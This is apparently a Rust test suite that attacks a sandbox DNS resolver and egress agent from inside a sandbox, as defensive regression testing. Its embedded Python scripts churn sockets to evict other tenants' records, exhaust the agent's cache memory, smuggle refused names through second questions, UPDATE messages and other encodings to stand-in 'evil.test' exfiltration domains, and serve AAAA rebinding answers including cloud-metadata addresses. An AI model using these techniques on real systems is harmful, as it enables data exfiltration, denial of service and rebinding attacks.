//! A fifteenth attack review, run as the process inside the sandbox: each test performs
//! one attack from a sandbox (uid 65534, arbitrary Python) against the real agent, the
//! real kernel and real DNS servers on the test namespace's `lo`, and asserts the secure
//! outcome. A test marked `#[ignore = "open: …"]` is a break found and not yet fixed: it
//! fails against the current agent.
//!
//! Angle: hb's resolver as the root of trust of egress — what it validates, what it
//! forwards, and what the kernel keeps for it (the redirect's records of which nameserver
//! a socket named and which sandbox sent a datagram) — attacked from a sandbox that can
//! trigger queries at will and open as many sockets as it likes.
//!
//! Found here (each test fails against the agent before its fix): the redirect's record
//! of which nameserver a socket named lived in one LRU for the whole node, which a
//! sandbox churning sockets emptied of every other tenant's records; the answer cache,
//! bounded by entries only, let one sandbox grow the agent by ~20 KiB per name of a zone
//! with many addresses per name; an address's claim kept every name that taught it, so a
//! zone whose names share an address grew it without bound; a refused name in a message
//! the resolver does not answer (a second question, an UPDATE's zone) went unrecorded.
//! Held, kept as regression tests: a refused name reaches the upstream in no shape of
//! message; AAAA answers carrying private addresses are refused.
//!
//! Everything lives on `lo` in the test's own network namespace: dnsmasq (or a small
//! Python DNS server the test scripts) is the upstream on 127.0.0.1.

use std::{thread, time::Duration};

use hb_tests::{
    python,
    sandboxed::{PY_WIDE_NAMES, Running, nobody_command, nobody_run, udp_ask},
    worlds::{names_on_lo, resolver_config, started_agent},
};

const DNS_PORT: u16 = 5515;

/// A sandbox's long-lived DNS client, as c-ares (Node's `dns.resolve*`, curl built with
/// c-ares) or a caching stub keeps one: one UDP socket connected to 192.0.2.53:53 (the
/// connect hook's redirect), a query per line of stdin (`NAME`), each answer printed as
/// `NAME from ADDR:PORT rcode R` (the source `recvfrom` reports: a resolver drops a
/// reply whose source is not the nameserver it asked) or `NAME lost ERROR`.
const PY_KEEPING_CLIENT: &str = r#"
import socket, struct, sys
def q(name, i):
    h = struct.pack("!HHHHHH", i, 0x0100, 1, 0, 0, 0)
    return h + b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\0" + struct.pack("!HH", 1, 1)
c = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); c.settimeout(5)
c.connect(("192.0.2.53", 53))
print("ready", flush=True)
for i, line in enumerate(sys.stdin):
    name = line.strip()
    c.send(q(name, i + 1))
    try:
        d, src = c.recvfrom(512)
        print(name, "from", "%s:%d" % src, "rcode", d[3] & 15, flush=True)
    except OSError as e:
        print(name, "lost", e, flush=True)
"#;

/// An attacker's loop: `argv[1]` UDP sockets, each connected to a port-53 address (so the
/// kernel redirects it and files a record of the nameserver it named), asked for its peer
/// (a lookup of that record, which an LRU counts as a use) and closed at once; made in
/// rounds on each CPU in turn (an LRU hash keeps a few records per CPU apart until that
/// CPU next takes some); prints `redirected N in S s`.
const PY_REDIRECT_CHURN: &str = r#"
import os, socket, sys, time
n = int(sys.argv[1]); t = time.time(); cpus = sorted(os.sched_getaffinity(0)); done = 0
rounds = [c for _ in range(2) for c in cpus]
for r, cpu in enumerate(rounds):
    os.sched_setaffinity(0, {cpu})
    for i in range(n * (r + 1) // len(rounds) - done):
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.connect(("198.51.100.%d" % (1 + i % 250), 53))
        s.getpeername()
        s.close()
    done = n * (r + 1) // len(rounds)
print("redirected", done, "in", round(time.time() - t, 2), "s", flush=True)
"#;

/// The redirect's record of a socket (which nameserver it named, which sandbox and policy
/// it belongs to) lived in one LRU map of 65,536 entries shared by every sandbox of every
/// policy on the node (`HB_DNS_REDIR`, keyed by socket cookie, never removed). A sandbox
/// of another policy opened and closed ~200,000 redirected sockets (a few seconds of
/// Python) and so evicted the records of every other tenant's open DNS sockets. A
/// victim that keeps its resolver socket (c-ares, a caching stub) then got its answers
/// from the resolver's own address (127.0.0.1:port) instead of the nameserver it asked,
/// which every stub resolver drops (its DNS was dead until it made a new socket), and its
/// queries reached the resolver without a sandbox (cgroup 0: its refusals recorded under
/// no sandbox, its lookups and allow-map rows in the policy's unattributed share). Now
/// the record is the socket's own storage (`HB_DNS_NAMED`), freed with the socket.
#[test]
fn another_tenants_socket_churn_does_not_break_a_sandboxs_open_dns_socket() {
    let _dns = names_on_lo(
        &["192.0.2.53"],
        DNS_PORT,
        &[("allowed.test", &["203.0.113.10"])],
        60,
    );
    let env = started_agent(
        "ar15churn",
        &format!(
            "{}\n[[policy]]\nname = \"victim\"\nallow_domains = [\"allowed.test\"]\n\n\
             [[policy]]\nname = \"noisy\"\nallow_domains = [\"other.test\"]\n",
            resolver_config(DNS_PORT, true, "", &["203.0.113.0/24"])
        ),
    );
    let mut victim = Running::spawn(nobody_command(
        &env,
        "victim",
        &[],
        &[python(), "-c", PY_KEEPING_CLIENT],
    ));
    assert_eq!(victim.line(), "ready");
    victim.say("allowed.test");
    let before = victim.line();
    victim.say("before.denied.test");
    let denied_before = victim.line();
    assert!(
        before == "allowed.test from 192.0.2.53:53 rcode 0"
            && denied_before.starts_with("before.denied.test from 192.0.2.53:53 rcode 3"),
        "the victim's client works before the attack: {before:?} {denied_before:?}"
    );
    let ev_before = env.wait_event("naming the victim's first refused name", |e| {
        e["name"] == "before.denied.test"
    });

    let churn = nobody_run(
        &env,
        "noisy",
        &[python(), "-c", PY_REDIRECT_CHURN, "400000"],
    );
    assert!(churn.contains("redirected 400000"), "churn: {churn}");

    victim.say("allowed.test");
    let after = victim.line();
    victim.say("after.denied.test");
    let denied_after = victim.line();
    let ev_after = env.wait_event("naming the victim's second refused name", |e| {
        e["name"] == "after.denied.test"
    });
    println!(
        "figure: {} ; after another tenant's {}: {after:?}, refusal charged to cgroup {} \
         (before: {})",
        before.trim(),
        churn.trim(),
        ev_after["cgroup_id"],
        ev_before["cgroup_id"]
    );
    assert_eq!(
        after, "allowed.test from 192.0.2.53:53 rcode 0",
        "after another policy's sandbox churned redirected sockets, the victim's open DNS \
         socket got its answer from somewhere else than the nameserver it asked"
    );
    assert!(
        denied_after.starts_with("after.denied.test from 192.0.2.53:53 rcode 3"),
        "{denied_after:?}"
    );
    assert!(
        ev_before["cgroup_id"].as_u64().is_some_and(|c| c > 0)
            && ev_after["cgroup_id"] == ev_before["cgroup_id"],
        "the victim's refusal is charged to its own sandbox after the churn: before \
         {ev_before}, after {ev_after}"
    );
}

const WIDE_PORT: u16 = 5516;

/// A DNS server (Python, UDP) on 127.0.0.1:[`WIDE_PORT`] for a zone like a CDN's or an
/// object store's, where every name has addresses of its own: `n<N>.wild.test` → 64
/// addresses in the benchmark net 198.18.0.0/15 (`max_ips_per_name`'s default), TTL
/// 3600; `s<N>.wild.test` → 203.0.113.12 (one address shared by every name, as a
/// hosting platform's `*.github.io` or `*.vercel.app`), TTL 3600; `victim.wild.test` →
/// 203.0.113.10; other names NXDOMAIN.
fn wide_zone() -> hb_tests::PythonServer {
    hb_tests::PythonServer::start(&format!(
        r#"
import socket, struct
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.bind(("127.0.0.1", {WIDE_PORT}))
s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1 << 22)
while True:
    q, a = s.recvfrom(512)
    end = 12
    while q[end] != 0: end += q[end] + 1
    first = q[13:13 + q[12]].decode().lower()
    qtype = struct.unpack("!H", q[end + 1:end + 3])[0]
    rrs = []; rcode = 0
    if first == "victim":
        rrs = [b"\xc0\x0c" + struct.pack("!HHIH", 1, 1, 300, 4) + socket.inet_aton("203.0.113.10")] if qtype == 1 else []
    elif first[:1] == "s" and first[1:].isdigit():
        rrs = [b"\xc0\x0c" + struct.pack("!HHIH", 1, 1, 3600, 4) + socket.inet_aton("203.0.113.12")] if qtype == 1 else []
    elif first[:1] == "n" and first[1:].isdigit():
        base = (int(first[1:]) * 64) % (1 << 17)
        if qtype == 1:
            rrs = [b"\xc0\x0c" + struct.pack("!HHIHBBBB", 1, 1, 3600, 4, 198, 18 + ((base + j) >> 16 & 1), (base + j) >> 8 & 255, (base + j) & 255) for j in range(64)]
    else:
        rcode = 3
    s.sendto(q[:2] + struct.pack("!HHHHH", 0x8180 | rcode, 1, len(rrs), 0, 0) + q[12:end + 5] + b"".join(rrs), a)
"#
    ))
}

/// One sandbox of a policy allowing a zone where every name has 64 addresses of its own
/// (a CDN's, an object store's) resolves 3,000 distinct names of it. Each validated answer
/// stayed in the resolver's cache, which was bounded by entries only (65,536): ~20 KiB
/// per answer as hickory records, so the agent grew ~60 MiB here and ~1.3 GiB at the
/// bound — past the DaemonSet's 512 MiB memory limit after ~25,000 names, and an agent
/// killed for memory takes every tenant's DNS with it. Now the cache is bounded by its
/// estimated bytes too, and the policy holding the most gives its entries up first.
#[test]
fn one_sandbox_resolving_many_wide_names_does_not_grow_the_agent_without_bound() {
    hb_tests::require_root();
    hb_tests::private_netns(&["192.0.2.53", "203.0.113.10"]);
    let _dns = wide_zone();
    let mut env = started_agent(
        "ar15cache",
        &format!(
            "{}\n[[policy]]\nname = \"web\"\nallow_domains = [\"*.wild.test\"]\n\n\
             [[policy]]\nname = \"other\"\nallow_domains = [\"victim.wild.test\"]\n",
            resolver_config(WIDE_PORT, true, "", &["203.0.113.0/24", "198.18.0.0/15"])
        ),
    );
    let victim = udp_ask(&env, "other", &["victim.wild.test"]);
    let pid = env.agent().pid();
    let before = hb_tests::memory_kib(pid, false);
    let said = nobody_run(
        &env,
        "web",
        &[python(), "-c", PY_WIDE_NAMES, "0", "3000", "n"],
    );
    let grown_mib = hb_tests::memory_kib(pid, false).saturating_sub(before) / 1024;
    let again = udp_ask(&env, "other", &["victim.wild.test"]);
    println!(
        "figure: one sandbox {} -> the agent grew {grown_mib} MiB",
        said.trim()
    );
    assert!(
        said.contains("answered 3000"),
        "the attacker's names were answered (else the attack proves nothing): {said}"
    );
    assert!(
        grown_mib < 40,
        "one sandbox's answers made the agent's resolver cache hold {grown_mib} MiB"
    );
    assert!(
        victim.contains("rcode 0 203.0.113.10") && again.contains("rcode 0 203.0.113.10"),
        "another policy's name resolves: {victim} {again}"
    );
}

/// A sandbox's query carrying a name it may not resolve beside one it may: one message
/// with two questions (`allowed.test`, then `argv[1]`), and one DNS UPDATE (opcode 5)
/// naming `argv[2]` as its zone; prints each reply's rcode.
const PY_ODD_MESSAGES: &str = r#"
import socket, struct, sys
def name(n):
    return b"".join(bytes([len(p)]) + p.encode() for p in n.split(".")) + b"\0"
c = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); c.settimeout(5)
c.connect(("192.0.2.53", 53))
two = struct.pack("!HHHHHH", 7, 0x0100, 2, 0, 0, 0) + name("allowed.test") + struct.pack("!HH", 1, 1) + name(sys.argv[1]) + struct.pack("!HH", 1, 1)
update = struct.pack("!HHHHHH", 8, 5 << 11, 1, 0, 0, 0) + name(sys.argv[2]) + struct.pack("!HH", 6, 1)
for what, m in (("two", two), ("update", update)):
    c.send(m)
    try:
        d = c.recv(512)
        print(what, "rcode", d[3] & 15, flush=True)
    except OSError as e:
        print(what, "lost", e, flush=True)
"#;

/// A name the policy refuses, carried in a message hb does not answer (a second
/// question, the zone of a DNS UPDATE), was refused (FORMERR, NOTIMP) without being
/// judged: nothing recorded that the sandbox tried to resolve it, while the same name
/// asked alone is a `name_not_allowed` event. Now every name such a message carries is
/// judged and a refused one recorded (the message is still not answered).
#[test]
fn a_refused_name_hidden_in_a_message_hb_does_not_answer_is_still_recorded() {
    let _dns = names_on_lo(
        &["192.0.2.53"],
        DNS_PORT,
        &[("allowed.test", &["203.0.113.10"])],
        60,
    );
    let env = started_agent(
        "ar15odd",
        &format!(
            "{}\n[[policy]]\nname = \"web\"\nallow_domains = [\"allowed.test\"]\n",
            resolver_config(DNS_PORT, true, "", &["203.0.113.0/24"])
        ),
    );
    let said = nobody_run(
        &env,
        "web",
        &[
            python(),
            "-c",
            PY_ODD_MESSAGES,
            "c2data-in-second-question.evil.test",
            "c2data-in-update-zone.evil.test",
        ],
    );
    let names: Vec<String> = env
        .events()
        .iter()
        .filter(|e| e["hook"] == "dns")
        .map(|e| format!("{}:{}", e["reason"], e["name"]))
        .collect();
    println!(
        "figure: {} ; resolver events: {names:?}",
        said.replace('\n', ", ")
    );
    assert!(
        said.contains("two rcode") && said.contains("update rcode"),
        "both messages were answered: {said}"
    );
    for hidden in [
        "c2data-in-second-question.evil.test",
        "c2data-in-update-zone.evil.test",
    ] {
        env.wait_event(&format!("name_not_allowed naming {hidden}"), |e| {
            e["reason"] == "name_not_allowed" && e["name"] == hidden
        });
    }
}

/// One sandbox of a policy allowing a zone where every name shares one address (a
/// hosting platform's: `*.github.io`, `*.vercel.app`) resolves distinct names of it.
/// The address's claim kept every name that taught it (for the egress guard's question
/// "was this address validated for this name?"), in three indexes and in the name index
/// file the agent rewrites every second; each new name also pushed the claim's expiry on,
/// so none ever went: ~N names held for as long as the sandbox keeps asking, unbounded by
/// any share. Now a sandbox's claim on an address keeps its newest names only.
#[test]
fn one_sandbox_resolving_many_names_of_one_address_does_not_grow_its_names_without_bound() {
    hb_tests::require_root();
    hb_tests::private_netns(&["192.0.2.53", "203.0.113.10"]);
    let _dns = wide_zone();
    let mut env = started_agent(
        "ar15names",
        &format!(
            "{}\n[[policy]]\nname = \"web\"\nallow_domains = [\"*.wild.test\"]\n",
            resolver_config(WIDE_PORT, true, "", &["203.0.113.0/24", "198.18.0.0/15"])
        ),
    );
    let pid = env.agent().pid();
    let before = hb_tests::memory_kib(pid, false);
    let said = nobody_run(
        &env,
        "web",
        &[python(), "-c", PY_WIDE_NAMES, "0", "3000", "s"],
    );
    let grown_kib = hb_tests::memory_kib(pid, false).saturating_sub(before);
    // The name index is rewritten once a second.
    thread::sleep(Duration::from_millis(1500));
    let file = std::fs::metadata(env.state_dir.join("dns-names.json")).map_or(0, |m| m.len());
    let rows = env.allow_rows();
    let names = rows
        .iter()
        .find(|r| r["ip"] == "203.0.113.12")
        .and_then(|r| r["names"].as_str())
        .map_or(0, |n| n.split(',').filter(|n| !n.is_empty()).count());
    println!(
        "figure: one sandbox {} -> 203.0.113.12 held for {names} names; name index file \
         {file} bytes; agent RSS +{grown_kib} KiB",
        said.trim()
    );
    assert!(said.contains("answered 3000"), "{said}");
    assert!(
        (1..=64).contains(&names),
        "one address is held for {names} names of one sandbox"
    );
}

const RECORDING_PORT: u16 = 5517;

/// A DNS server (Python, UDP and TCP) on 127.0.0.1:[`RECORDING_PORT`] that writes every
/// question name it is asked to `log`, one per line, and answers: `allowed.test` A →
/// 203.0.113.10; AAAA queries from the table `v6` (name → address), TTL 60; anything
/// else NXDOMAIN.
fn recording_upstream(log: &std::path::Path, v6: &[(&str, &str)]) -> hb_tests::PythonServer {
    std::fs::write(log, "").expect("log");
    hb_tests::worlds::dns_server(
        RECORDING_PORT,
        &format!(
            r#"
V6 = dict({v6:?})
LOG = {log:?}
lock = threading.Lock()
def answer(q, tcp):
    end = 12; labels = []
    while q[end] != 0:
        labels.append(q[end + 1:end + 1 + q[end]].decode("latin-1")); end += q[end] + 1
    name = ".".join(labels).lower()
    with lock, open(LOG, "a") as f:
        f.write(name + "\n")
    qtype = struct.unpack("!H", q[end + 1:end + 3])[0]
    rrs = []; rcode = 0
    if name == "allowed.test" and qtype == 1:
        rrs = [b"\xc0\x0c" + struct.pack("!HHIH", 1, 1, 60, 4) + socket.inet_aton("203.0.113.10")]
    elif name in V6 and qtype == 28:
        rrs = [b"\xc0\x0c" + struct.pack("!HHIH", 28, 1, 60, 16) + socket.inet_pton(socket.AF_INET6, V6[name])]
    elif name not in V6 and name != "allowed.test":
        rcode = 3
    return q[:2] + struct.pack("!HHHHH", 0x8180 | rcode, 1, len(rrs), 0, 0) + q[12:end + 5] + b"".join(rrs)
"#,
            log = log.display().to_string(),
        ),
    )
}

/// A sandbox's ways to put a name in front of the upstream: `argv[1]` (a name its policy
/// refuses) asked in upper case, in class ANY, as TXT, ANY and HTTPS, with an EDNS
/// client-subnet option, over TCP, behind a 63-byte label, as a second question and as a
/// DNS UPDATE's zone; then `allowed.test` (the control: it must reach the upstream).
/// Prints one `shape rcode R` per message.
const PY_EXFIL_SHAPES: &str = r#"
import socket, struct, sys
secret = sys.argv[1]
def name(n):
    return b"".join(bytes([len(p)]) + p.encode() for p in n.split(".")) + b"\0"
def msg(i, names, qtype=1, qclass=1, opcode=0, extra=b"", ar=0):
    h = struct.pack("!HHHHHH", i, (opcode << 11) | 0x0100, len(names), 0, 0, ar)
    return h + b"".join(name(n) + struct.pack("!HH", qtype, qclass) for n in names) + extra
ecs = b"\0" + struct.pack("!HHIH", 41, 1232, 0, 11) + struct.pack("!HHHBB", 8, 7, 1, 24, 0) + bytes([198, 51, 100])
shapes = [
    ("upper", msg(1, [secret.upper()])),
    ("class-any", msg(2, [secret], qclass=255)),
    ("txt", msg(3, [secret], qtype=16)),
    ("any", msg(4, [secret], qtype=255)),
    ("https", msg(5, [secret], qtype=65)),
    ("ecs", msg(6, [secret], extra=ecs, ar=1)),
    ("long-label", msg(7, ["x" * 63 + "." + secret])),
    ("two-questions", msg(8, ["allowed.test", secret])),
    ("update", msg(9, [secret], qtype=6, opcode=5)),
]
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.settimeout(5)
u.connect(("192.0.2.53", 53))
for shape, m in shapes:
    u.send(m)
    try:
        print(shape, "rcode", u.recv(4096)[3] & 15, flush=True)
    except OSError as e:
        print(shape, "lost", e, flush=True)
t = socket.create_connection(("192.0.2.53", 53), timeout=5)
q = msg(10, [secret])
t.sendall(struct.pack("!H", len(q)) + q)
print("tcp rcode", t.recv(4096)[5] & 15, flush=True)
u.send(msg(11, ["allowed.test"]))
print("control rcode", u.recv(4096)[3] & 15, flush=True)
"#;

/// Held (a regression test): a name the policy refuses never reaches the upstream (whose
/// recursion would carry its labels to the attacker's authoritative server) in any shape
/// a sandbox can give a message, and every such message is answered.
#[test]
fn a_refused_name_reaches_the_upstream_in_no_shape_of_message() {
    hb_tests::require_root();
    hb_tests::private_netns(&["192.0.2.53", "203.0.113.10"]);
    let dir = std::env::temp_dir().join(format!("hb-ar15-exfil-{}", std::process::id()));
    std::fs::create_dir_all(&dir).expect("dir");
    let log = dir.join("asked.log");
    let _up = recording_upstream(&log, &[]);
    let env = started_agent(
        "ar15exfil",
        &format!(
            "{}\n[[policy]]\nname = \"web\"\nallow_domains = [\"allowed.test\"]\n",
            resolver_config(RECORDING_PORT, true, "", &["203.0.113.0/24"])
        ),
    );
    let said = nobody_run(
        &env,
        "web",
        &[python(), "-c", PY_EXFIL_SHAPES, "k3y-4f9a.exfil.evil.test"],
    );
    let asked = std::fs::read_to_string(&log).expect("log");
    let _ = std::fs::remove_dir_all(&dir);
    println!(
        "figure: {} ; the upstream was asked: {:?}",
        said.replace('\n', ", "),
        asked.lines().collect::<Vec<_>>()
    );
    assert!(
        said.contains("control rcode 0") && asked.contains("allowed.test"),
        "the control reached the upstream: {said} / {asked}"
    );
    assert_eq!(
        said.lines().count(),
        11,
        "every message was answered: {said}"
    );
    assert!(
        !asked.contains("evil") && !asked.contains("k3y"),
        "a refused name reached the upstream: {asked}"
    );
}

/// Held (a regression test): AAAA answers that carry a private IPv4 address (IPv4-mapped,
/// the well-known NAT64 prefix, 6to4, IPv4-compatible), Teredo, unique-local and
/// link-local addresses are refused as rebinding and never enter the allow map; a public
/// AAAA (documentation space, an exception of the test) resolves.
#[test]
fn aaaa_answers_carrying_private_addresses_are_refused() {
    hb_tests::require_root();
    hb_tests::private_netns(&["192.0.2.53"]);
    let dir = std::env::temp_dir().join(format!("hb-ar15-aaaa-{}", std::process::id()));
    std::fs::create_dir_all(&dir).expect("dir");
    let private = [
        ("mapped.test", "::ffff:10.0.0.1"),
        ("nat64.test", "64:ff9b::a00:1"),
        ("sixtofour.test", "2002:a00:1::1"),
        ("compat.test", "::10.0.0.1"),
        ("teredo.test", "2001:0:4136:e378:8000:63bf:f5ff:fffe"),
        ("ula.test", "fd00::1"),
        ("linklocal.test", "fe80::1"),
        ("metadata.test", "::ffff:169.254.169.254"),
    ];
    let mut table = private.to_vec();
    table.push(("public.test", "2001:db8::10"));
    let _up = recording_upstream(&dir.join("asked.log"), &table);
    let names: Vec<&str> = table.iter().map(|(n, _)| *n).collect();
    let env = started_agent(
        "ar15aaaa",
        &format!(
            "{}\n[[policy]]\nname = \"web\"\nallow_domains = {names:?}\n",
            resolver_config(
                RECORDING_PORT,
                true,
                "",
                &["203.0.113.0/24", "2001:db8::/32"]
            )
        ),
    );
    let script = r#"
import socket, struct, sys
for i, n in enumerate(sys.argv[1:]):
    c = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); c.settimeout(5)
    c.connect(("192.0.2.53", 53))
    c.send(struct.pack("!HHHHHH", i + 1, 0x0100, 1, 0, 0, 0) + b"".join(bytes([len(p)]) + p.encode() for p in n.split(".")) + b"\0" + struct.pack("!HH", 28, 1))
    d = c.recv(512)
    print(n, "rcode", d[3] & 15, "answers", struct.unpack("!H", d[6:8])[0], flush=True)
"#;
    let mut args = vec![python(), "-c", script];
    args.extend(names.iter().copied());
    let said = nobody_run(&env, "web", &args);
    let _ = std::fs::remove_dir_all(&dir);
    let allow6 = env.hb_json(&["maps", "dump", "allow6"]);
    println!("figure: {} ; allow6: {allow6}", said.replace('\n', ", "));
    assert!(
        said.contains("public.test rcode 0 answers 1"),
        "the public control resolves: {said}"
    );
    for (name, addr) in private {
        assert!(
            said.contains(&format!("{name} rcode 5 answers 0")),
            "{name} ({addr}) was not refused: {said}"
        );
        env.wait_event(&format!("dns_rebinding for {name}"), |e| {
            e["reason"] == "dns_rebinding" && e["name"] == name
        });
    }
    let rows = allow6.as_array().expect("rows");
    assert!(
        rows.iter().all(|r| r["ip"] == "2001:db8::10"),
        "only the public address is allowed: {allow6}"
    );
}
